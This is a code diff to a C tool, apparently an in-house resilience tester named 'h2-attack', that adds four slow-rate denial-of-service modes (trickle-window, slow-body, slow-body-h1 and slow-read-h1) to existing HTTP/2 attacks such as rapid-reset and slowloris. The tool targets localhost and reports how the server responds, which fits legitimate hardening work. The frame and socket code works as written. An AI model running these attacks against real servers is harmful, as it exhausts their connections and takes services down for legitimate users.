@@ -23,6 +23,16 @@
  *                   when the server closed (see it with ss: FIN-WAIT-1 on the server's side)
  *   slowloris       HTTP/1.1: a request line and headers sent one byte every --interval-ms (default 1000), never
  *                   finished
+ *   trickle-window  SETTINGS_INITIAL_WINDOW_SIZE = --payload, one GET of --path (default /openapi.json), then a
+ *                   WINDOW_UPDATE of --payload bytes (stream and connection) every --interval-ms; reads everything, so
+ *                   it looks alive while the response trickles out
+ *   slow-body       HTTP/2 POST of --path with content-length 65536, then one DATA frame of --payload bytes every
+ *                   --interval-ms (END_STREAM with the last); reads everything
+ *   slow-body-h1    HTTP/1.1: the same POST with its headers at once, then --payload body bytes every --interval-ms;
+ *                   the status line of the answer, if any, is reported as debug= (e.g. HTTP/1.1_408_Request_Timeout)
+ *   slow-read-h1    HTTP/1.1 GET of --path (default /openapi.json) on a socket with a 4 KB receive buffer, read
+ *                   --payload bytes every --interval-ms; like no-read, the server's close shows in ss, not here
+ * For these four, the total rate is --payload / --interval-ms per connection (e.g. 16 bytes every 200 ms).
  * It reads what the server sends (except in zero-window and no-read, which only watch for the close and read at the
  * end) and parses the frames enough to report, one line per connection (key=value, no spaces in values):
  *   conn=1 mode=rapid-reset goaway=ENHANCE_YOUR_CALM goaway_after_ms=37 closed=1 closed_after_ms=38 connections=1
@@ -66,10 +76,15 @@ enum mode {
     SETTINGS_FLOOD,
     ZERO_WINDOW,
     NO_READ,
-    SLOWLORIS
+    SLOWLORIS,
+    TRICKLE_WINDOW,
+    SLOW_BODY,
+    SLOW_BODY_H1,
+    SLOW_READ_H1
 };
 static const char *const MODE_NAMES[] = {"rapid-reset", "made-you-reset", "continuation", "hpack-bomb", "ping-flood",
-                                         "settings-flood", "zero-window", "no-read", "slowloris"};
+                                         "settings-flood", "zero-window", "no-read", "slowloris",
+                                         "trickle-window", "slow-body", "slow-body-h1", "slow-read-h1"};
 
 static const char *const ERROR_NAMES[] = {"NO_ERROR",       "PROTOCOL_ERROR",      "INTERNAL_ERROR",
                                           "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT", "STREAM_CLOSED",
@@ -217,6 +232,113 @@ static void preface(conn_t *c, int zero_window)
     }
 }
 
+static int is_http1(enum mode m)
+{
+    return m == SLOWLORIS || m == SLOW_BODY_H1 || m == SLOW_READ_H1;
+}
+
+/* HTTP/1.1 modes: keep the answer's status line (as debug=), drop the rest */
+static void keep_status_line(conn_t *c)
+{
+    if (c->debug[0] == '\0' && c->in.len >= 12 && memcmp(c->in.p, "HTTP/1.", 7) == 0) {
+        size_t j = 0;
+        for (size_t i = 0; i < c->in.len && j < sizeof c->debug - 1 && c->in.p[i] != '\r'; i++)
+            c->debug[j++] = c->in.p[i] > ' ' && c->in.p[i] < 127 ? (char)c->in.p[i] : '_';
+        c->debug[j] = '\0';
+    }
+    c->in.len = c->in.off = 0;
+}
+
+#define SLOW_BODY_BYTES 65536
+
+/* slow-body: POST with content-length SLOW_BODY_BYTES (static table: :method POST, content-length's name) */
+static size_t post_block(uint8_t *dst, const char *path)
+{
+    size_t n = request_block(dst, path);
+    static const char len[] = "65536";
+    dst[0] = 0x83; /* :method POST */
+    dst[n++] = 0x0f; /* content-length, literal without indexing, name index 28 (15 + 13) */
+    dst[n++] = 0x0d;
+    dst[n++] = sizeof len - 1;
+    memcpy(dst + n, len, sizeof len - 1);
+    return n + sizeof len - 1;
+}
+
+static void window_update(conn_t *c, uint32_t stream, uint32_t increment)
+{
+    uint8_t w[4] = {(uint8_t)(increment >> 24 & 0x7f), (uint8_t)(increment >> 16), (uint8_t)(increment >> 8),
+                    (uint8_t)increment};
+    frame(c, F_WINDOW_UPDATE, 0, stream, w, sizeof w);
+}
+
+/* the first writes of trickle-window, slow-body and the HTTP/1.1 slow modes */
+static void start_slow_mode(conn_t *c)
+{
+    uint8_t blk[512];
+    char req[512];
+    int n;
+    switch (opt.mode) {
+    case TRICKLE_WINDOW:
+        frame(c, F_HEADERS, FL_END_STREAM | FL_END_HEADERS, 1, blk, request_block(blk, opt.path));
+        break;
+    case SLOW_BODY:
+        frame(c, F_HEADERS, FL_END_HEADERS, 1, blk, post_block(blk, opt.path));
+        break;
+    case SLOW_BODY_H1:
+    case SLOW_READ_H1:
+        n = snprintf(req, sizeof req, "%s %s HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: h2-attack-%s\r\n%s\r\n",
+                     opt.mode == SLOW_BODY_H1 ? "POST" : "GET", opt.path, MODE_NAMES[opt.mode],
+                     opt.mode == SLOW_BODY_H1 ? "Content-Type: application/json\r\nContent-Length: 65536\r\n" : "");
+        buf_put(&c->out, req, (size_t)n);
+        break;
+    default:
+        return;
+    }
+    c->streams_opened++;
+    c->phase = 1;
+}
+
+/* every --interval-ms: grant (trickle-window), send (slow-body, slow-body-h1) or read (slow-read-h1) --payload bytes */
+static void slow_tick(conn_t *c)
+{
+    static uint8_t body[16384];
+    size_t n = opt.payload;
+    if (body[0] == 0)
+        memset(body, '7', sizeof body);
+    switch (opt.mode) {
+    case TRICKLE_WINDOW:
+        window_update(c, 1, (uint32_t)n);
+        window_update(c, 0, (uint32_t)n);
+        break;
+    case SLOW_BODY:
+    case SLOW_BODY_H1:
+        if (c->slow_pos >= SLOW_BODY_BYTES)
+            return;
+        if (n > SLOW_BODY_BYTES - c->slow_pos)
+            n = SLOW_BODY_BYTES - c->slow_pos;
+        c->slow_pos += n;
+        if (opt.mode == SLOW_BODY)
+            frame(c, F_DATA, c->slow_pos == SLOW_BODY_BYTES ? FL_END_STREAM : 0, 1, body, n);
+        else
+            buf_put(&c->out, body, n);
+        break;
+    case SLOW_READ_H1: {
+        uint8_t in[16384];
+        ssize_t got = recv(c->fd, in, n < sizeof in ? n : sizeof in, 0);
+        if (got > 0) {
+            c->bytes_received += (uint64_t)got;
+            if (c->debug[0] == '\0') {
+                buf_put(&c->in, in, (size_t)got);
+                keep_status_line(c);
+            }
+        }
+        break;
+    }
+    default:
+        break;
+    }
+}
+
 /* Queue the next batch for this connection's mode when its output is empty. */
 static void refill(conn_t *c)
 {
@@ -319,6 +441,13 @@ static void refill(conn_t *c)
         break;
     case SLOWLORIS:
         break; /* see tick() */
+    case TRICKLE_WINDOW:
+    case SLOW_BODY:
+    case SLOW_BODY_H1:
+    case SLOW_READ_H1:
+        if (c->phase == 0)
+            start_slow_mode(c);
+        break; /* then slow_tick() */
     }
 }
 
@@ -328,8 +457,15 @@ static const char SLOW_REQUEST[] = "GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n
 
 static void tick(conn_t *c, int64_t now)
 {
-    if (opt.mode != SLOWLORIS || now < c->next_tick_ms)
+    if (now < c->next_tick_ms)
         return;
+    if (opt.mode != SLOWLORIS) {
+        if (c->phase != 0) { /* trickle-window, slow-body, slow-body-h1, slow-read-h1, once started */
+            slow_tick(c);
+            c->next_tick_ms = now + opt.interval_ms;
+        }
+        return;
+    }
     buf_put(&c->out, SLOW_REQUEST + c->slow_pos % (sizeof SLOW_REQUEST - 1), 1); /* never the final CRLF CRLF */
     c->slow_pos++;
     c->frames_sent++; /* one "frame" = one byte here */
@@ -345,7 +481,7 @@ static int open_conn(conn_t *c)
     int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), one = 1, small = 4096;
     if (fd < 0)
         return -1;
-    if (opt.mode == NO_READ) /* before connect, so that the window scale stays small */
+    if (opt.mode == NO_READ || opt.mode == SLOW_READ_H1) /* before connect, so that the window scale stays small */
         setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &small, sizeof small);
     struct sockaddr_in from = {.sin_family = AF_INET, .sin_addr = opt.source};
     if (opt.source.s_addr != 0) /* the port at connect: a reconnecting flood must not run out of bound ports */
@@ -370,8 +506,8 @@ static int open_conn(conn_t *c)
     c->goaway_ms = c->closed_ms = -1;
     c->debug[0] = '\0';
     c->connections++;
-    if (opt.mode != SLOWLORIS)
-        preface(c, opt.mode == ZERO_WINDOW);
+    if (!is_http1(opt.mode)) /* trickle-window: initial window 0, then --payload per tick */
+        preface(c, opt.mode == ZERO_WINDOW || opt.mode == TRICKLE_WINDOW);
     return 0;
 }
 
@@ -419,10 +555,10 @@ static int read_some(conn_t *c)
         if (n > 0) {
             c->in.len += (size_t)n;
             c->bytes_received += (uint64_t)n;
-            if (opt.mode != SLOWLORIS)
+            if (!is_http1(opt.mode))
                 parse_frames(c);
             else
-                c->in.len = c->in.off = 0;
+                keep_status_line(c);
             if (buf_pending(&c->in) > MAX_INBUF)
                 return 1;
             continue;
@@ -511,7 +647,7 @@ static void usage(void)
             "                 [--source 127.x.y.z]\n"
             "                 [--interval-ms MS]\n"
             "modes: rapid-reset made-you-reset continuation hpack-bomb ping-flood settings-flood zero-window no-read\n"
-            "       slowloris\n",
+            "       slowloris trickle-window slow-body slow-body-h1 slow-read-h1\n",
             MAX_SECONDS, MAX_CONNECTIONS);
     exit(2);
 }
@@ -579,7 +715,10 @@ int main(int argc, char **argv)
     if (opt.port == 0 || !have_mode)
         usage();
     if (opt.path == NULL)
-        opt.path = opt.mode == ZERO_WINDOW || opt.mode == NO_READ ? "/openapi.json" : "/healthz";
+        opt.path = opt.mode == ZERO_WINDOW || opt.mode == NO_READ || opt.mode == TRICKLE_WINDOW ||
+                           opt.mode == SLOW_READ_H1
+                       ? "/openapi.json"
+                       : "/healthz";
     signal(SIGPIPE, SIG_IGN);
 
     conn_t *conns = calloc((size_t)opt.connections, sizeof *conns);
@@ -628,7 +767,7 @@ int main(int argc, char **argv)
             }
             pfd[n].fd = c->fd;
             pfd[n].events = POLLRDHUP;
-            if (opt.mode != ZERO_WINDOW && opt.mode != NO_READ)
+            if (opt.mode != ZERO_WINDOW && opt.mode != NO_READ && opt.mode != SLOW_READ_H1)
                 pfd[n].events |= POLLIN;
             if (buf_pending(&c->out) != 0)
                 pfd[n].events |= POLLOUT;
@@ -639,7 +778,7 @@ int main(int argc, char **argv)
             break;
         if (n == 0)
             continue;
-        int timeout = opt.mode == SLOWLORIS ? 50 : 100;
+        int timeout = opt.mode == SLOWLORIS ? 50 : opt.mode >= TRICKLE_WINDOW ? 20 : 100;
         if (poll(pfd, (nfds_t)n, timeout) < 0 && errno != EINTR)
             break;
         for (int k = 0; k < n; k++) {
@@ -650,7 +789,7 @@ int main(int argc, char **argv)
             if (c == NULL || pfd[k].revents == 0)
                 continue;
             int gone = 0;
-            if (opt.mode == ZERO_WINDOW || opt.mode == NO_READ) {
+            if (opt.mode == ZERO_WINDOW || opt.mode == NO_READ || opt.mode == SLOW_READ_H1) {
                 gone = (pfd[k].revents & (POLLRDHUP | POLLHUP | POLLERR)) != 0;
             } else if (pfd[k].revents & (POLLIN | POLLRDHUP | POLLHUP | POLLERR)) {
                 gone = read_some(c);
